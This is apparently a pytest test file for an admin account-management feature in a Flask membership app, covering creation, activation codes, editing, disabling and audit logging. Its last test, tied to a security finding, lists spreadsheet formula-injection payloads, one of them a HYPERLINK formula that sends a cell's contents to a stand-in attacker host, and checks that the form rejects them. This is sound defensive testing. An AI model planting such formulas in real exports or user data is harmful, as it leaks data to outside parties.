"""Admins create, edit, disable and re-enable accounts; every change is in the audit log."""

import pytest
import sqlalchemy as sa

from app.accounts.models import BranchPosition, Role, User
from app.core.models import AuditEntry
from app.extensions import db
from tests.accounts.helpers import slip_codes
from tests.helpers import count


def user_form(branch, **overrides):
    data = {
        "employee_no": "N20001",
        "name": "新成员",
        "mobile": "13811112222",
        "gender": "female",
        "branch_id": branch.id,
        "category": "probationary",
        "joined_party_on": "2024-07-01",
        "position": "committee",
        "roles": ["member"],
        "password": "",
    }
    data.update(overrides)
    return data


def by_employee_no(employee_no: str) -> User | None:
    db.session.expire_all()
    return db.session.scalars(sa.select(User).where(User.employee_no == employee_no)).first()


def test_admin_creates_a_member_who_then_logs_in_with_an_activation_code(client, login_as, org_tree):
    login_as("admin", branch=org_tree["root"])
    response = client.post("/users/new", data=user_form(org_tree["a1"]))
    assert response.status_code == 200  # the one and only showing of the activation slip
    created = by_employee_no("N20001")
    assert created.branch_id == org_tree["a1"].id
    assert created.category is None  # the workflow's result (app.membership), not a form field
    assert created.position == BranchPosition.COMMITTEE
    assert created.roles == {Role.MEMBER}
    assert created.must_change_password
    assert created.password_hash is None
    assert count(AuditEntry, AuditEntry.action == "user.create", AuditEntry.target_id == created.id) == 1
    code = slip_codes(response)["N20001"]

    client.post("/logout")
    assert client.post("/login", data={"identifier": "13811112222", "password": "112222"}).status_code == 401
    assert client.post("/login", data={"identifier": "13811112222", "password": code}).status_code == 302
    assert client.get("/").headers["Location"] == "/account/password"


def test_admin_creates_a_trainer_coordinator_with_a_password(client, login_as, org_tree):
    login_as("admin")
    data = user_form(org_tree["a"], roles=["trainer", "coordinator"], password="Start-2026x")
    assert client.post("/users/new", data=data).status_code == 302
    created = by_employee_no("N20001")
    assert created.roles == {Role.TRAINER, Role.COORDINATOR}
    assert not created.must_change_password
    client.post("/logout")
    assert client.post("/login", data={"identifier": "N20001", "password": "Start-2026x"}).status_code == 302
    assert client.get("/users").status_code == 200


def test_duplicate_employee_number_is_refused(client, login_as, org_tree, create_user):
    create_user(employee_no="N20001")
    login_as("admin")
    response = client.post("/users/new", data=user_form(org_tree["a1"], mobile="13811113333"))
    assert response.status_code == 422
    assert "工号 N20001 已被使用" in response.get_data(as_text=True)
    assert count(User, User.employee_no == "N20001") == 1


def test_bad_mobile_is_refused(client, login_as, org_tree):
    login_as("admin")
    response = client.post("/users/new", data=user_form(org_tree["a1"], mobile="12345"))
    assert response.status_code == 422
    assert "格式不正确" in response.get_data(as_text=True)
    assert by_employee_no("N20001") is None


def test_account_without_password_or_mobile_gets_an_activation_code(client, login_as, org_tree):
    login_as("admin")
    response = client.post("/users/new", data=user_form(org_tree["a1"], mobile=""))
    assert response.status_code == 200
    assert "N20001" in slip_codes(response)
    assert by_employee_no("N20001").password_hash is None


def test_admin_edits_a_member(client, login_as, org_tree, create_user):
    member = create_user("member", branch=org_tree["a1"], name="旧名字")
    login_as("admin")
    form = client.get(f"/users/{member.id}/edit").get_data(as_text=True)
    assert "旧名字" in form
    data = user_form(
        org_tree["b2"],
        employee_no=member.employee_no,
        name="新名字",
        mobile=member.mobile,
        roles=["member", "trainer"],
    )
    del data["password"]
    response = client.post(f"/users/{member.id}/edit", data=data)
    assert response.status_code == 302
    db.session.expire_all()
    member = db.session.get(User, member.id)
    assert member.name == "新名字"
    assert member.branch_id == org_tree["b2"].id
    assert member.roles == {Role.MEMBER, Role.TRAINER}
    entry = db.session.scalars(
        sa.select(AuditEntry).where(AuditEntry.action == "user.update", AuditEntry.target_id == member.id)
    ).one()
    assert entry.details["changed"]["name"] == ["旧名字", "新名字"]


def test_edit_refuses_a_mobile_another_account_uses(client, login_as, org_tree, create_user):
    create_user(mobile="13800000009")
    member = create_user("member", branch=org_tree["a1"])
    login_as("admin")
    data = user_form(org_tree["a1"], employee_no=member.employee_no, mobile="13800000009")
    response = client.post(f"/users/{member.id}/edit", data=data)
    assert response.status_code == 422
    assert "已被其他账户使用" in response.get_data(as_text=True)
    db.session.expire_all()
    assert db.session.get(User, member.id).mobile != "13800000009"


def test_admin_cannot_remove_their_own_admin_role(client, login_as, org_tree):
    admin = login_as("admin", branch=org_tree["root"])
    data = user_form(org_tree["root"], employee_no=admin.employee_no, mobile=admin.mobile, roles=["member"])
    response = client.post(f"/users/{admin.id}/edit", data=data)
    assert response.status_code == 422
    assert "不能取消自己的管理员角色" in response.get_data(as_text=True)
    db.session.expire_all()
    assert db.session.get(User, admin.id).is_admin


def test_admin_disables_and_re_enables_an_account(client, login_as, create_user, org_tree):
    member = create_user("member", branch=org_tree["a1"])
    login_as("admin")
    client.post(f"/users/{member.id}/active", data={"active": "0"})
    db.session.expire_all()
    assert not db.session.get(User, member.id).is_active_account
    assert "已停用" in client.get("/users").get_data(as_text=True)
    client.post(f"/users/{member.id}/active", data={"active": "1"})
    db.session.expire_all()
    assert db.session.get(User, member.id).is_active_account
    actions = db.session.scalars(
        sa.select(AuditEntry.action).where(AuditEntry.target_id == member.id).order_by(AuditEntry.id)
    ).all()
    assert actions[-2:] == ["user.disable", "user.enable"]


def test_admin_cannot_disable_themselves(client, login_as):
    admin = login_as("admin")
    response = client.post(f"/users/{admin.id}/active", data={"active": "0"})
    assert "不能停用自己的账户" in client.get(response.headers["Location"]).get_data(as_text=True)
    assert client.get("/").status_code == 200


def test_audit_log_lists_changes_for_admins(client, login_as, create_user, org_tree):
    login_as("admin")
    client.post("/users/new", data=user_form(org_tree["a1"]))
    page = client.get("/admin/audit?action=user.create").get_data(as_text=True)
    assert "创建账户 新成员(N20001)" in page


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("http://evil.example/?x="&A3,"点击")', "+1+1", "-2+3", "@SUM(A1)"]
)
def test_finding4_the_user_form_refuses_names_a_spreadsheet_would_run(name):
    from app.accounts import services as account_services

    data = account_services.UserData(employee_no="F4001", name=name, mobile="13900004001")
    with pytest.raises(account_services.AccountError, match="姓名不能以"):
        account_services.create_user(data, ["member"], actor=None, password="Zq8!vLw3-hk")
